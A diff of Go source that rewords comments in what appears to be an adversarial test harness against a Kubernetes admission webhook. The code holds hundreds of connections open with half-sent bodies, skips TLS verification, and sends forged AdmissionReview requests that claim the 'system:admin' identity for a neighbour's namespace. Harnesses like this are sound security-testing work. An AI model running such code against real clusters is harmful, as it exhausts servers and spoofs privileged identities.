@@ -37,7 +37,7 @@ func anyServer() *tls.Config {
 	return &tls.Config{InsecureSkipVerify: true} //nolint:gosec // See above.
 }
 
-// sendHalfBodies keeps 300 connections open on which part of a review has come.
+// sendHalfBodies keeps 300 connections open on which a part of a review was sent.
 func (a *attacker) sendHalfBodies(ctx context.Context) error {
 	body := strings.Repeat("x", 2<<20)
 	return a.inParallel(ctx, 300, func(ctx context.Context, _ int) error {
@@ -53,7 +53,7 @@ func (a *attacker) sendHalfBodies(ctx context.Context) error {
 		held := make(chan struct{})
 		go func() {
 			defer close(held)
-			_, _ = connection.Read(make([]byte, 1)) // Until the server ends it.
+			_, _ = connection.Read(make([]byte, 1)) // until the server closes it
 		}()
 		select {
 		case <-held:
@@ -78,14 +78,14 @@ func (a *attacker) forgeReviews(ctx context.Context) error {
 		answer, err := sender.Do(request)
 		if err != nil {
 			pause(ctx)
-			return nil //nolint:nilerr // The server may refuse a review; the attack goes on.
+			return nil //nolint:nilerr // the server may reject a review; the attack continues
 		}
 		a.sent.Add(1)
 		return answer.Body.Close()
 	})
 }
 
-// pause keeps an attacker that is refused from spending the machine's time on it.
+// pause bounds the CPU time that a rejected attacker uses.
 func pause(ctx context.Context) {
 	select {
 	case <-ctx.Done():
@@ -93,7 +93,7 @@ func pause(ctx context.Context) {
 	}
 }
 
-// forgedReview claims to be about a large pod of the neighbour.
+// forgedReview returns a review of a large pod of the neighbour.
 func forgedReview() string {
 	return fmt.Sprintf(`{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"1","operation":"CREATE",`+
 		`"kind":{"group":"","version":"v1","kind":"Pod"},"resource":{"group":"","version":"v1","resource":"pods"},"namespace":%q,"userInfo":{"username":"system:admin"},`+
